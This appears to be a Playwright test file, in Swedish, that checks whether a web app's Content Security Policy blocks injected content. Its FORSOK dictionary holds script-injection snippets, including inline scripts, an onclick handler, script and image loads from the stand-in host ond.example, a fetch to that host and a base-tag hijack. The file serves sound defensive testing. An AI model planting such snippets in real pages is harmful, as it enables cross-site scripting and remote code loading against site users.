"""The policy in a real browser: what somebody would get onto a page neither runs nor is fetched, and it is told aloud."""

import pytest
from playwright.sync_api import Browser

from tests.berattelser.folk import Stad
from tjanster.app import Vaka

FORSOK = {
    "inline-skript": "const s = document.createElement('script'); s.textContent = 'window.ond = 1'; document.body.append(s)",
    "händelse i ett attribut": "document.body.insertAdjacentHTML('beforeend', '<button id=knapp9 onclick=\"window.ond = 1\">x</button>'); document.querySelector('#knapp9').click()",
    "skript från annat håll": "new Promise(k => { const s = document.createElement('script'); s.src = 'https://ond.example/x.js'; s.onload = s.onerror = k; document.body.append(s) })",
    "bild från annat håll": "new Promise(k => { const b = new Image(); b.onload = b.onerror = k; b.src = 'https://ond.example/x.png' })",
    "stil i ett attribut": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
    "anrop till annat håll": "fetch('https://ond.example/').catch(() => 0)",
    "ram": "new Promise(k => { const r = document.createElement('iframe'); r.onload = k; r.src = '/hjalp'; document.body.append(r); setTimeout(k, 500) })",
    "bas": "(() => { const b = document.createElement('base'); b.href = 'https://ond.example/'; document.head.append(b); return document.baseURI })()",
}


@pytest.fixture
def egen_stad(webblasare: Browser, adress: str, vaka: Vaka) -> Stad:
    """A municipality whose screens are meant to complain."""
    return Stad(webblasare, adress, vaka)


def test_inget_frammande_gar_att_kora_eller_hamta(egen_stad: Stad) -> None:
    elin = egen_stad.person("elin")
    brott: list[str] = []
    elin.sida.expose_function("anmal", lambda vad: brott.append(vad))
    elin.sida.add_init_script(
        "document.addEventListener('securitypolicyviolation', h => window.anmal(h.effectiveDirective))"
    )
    for namn, skript in FORSOK.items():
        elin.ga("/")
        assert brott == [], f"sidan själv bryter mot policyn före {namn}"
        elin.sida.evaluate(
            f"async () => {{ await ({skript if skript.startswith(('new', '(', 'fetch')) else f'(() => {{ {skript} }})()'}) }}"
        )
        elin.sida.wait_for_timeout(50)
        assert elin.sida.evaluate("window.ond") is None, namn
        assert brott, f"{namn} sades aldrig"
        assert elin.sida.evaluate("document.baseURI").startswith(egen_stad.adress)
        brott.clear()
    assert [rad for rad in egen_stad.fel if "Content Security Policy" in rad], "berättelserna hade inte märkt ett brott"
    egen_stad.stang()
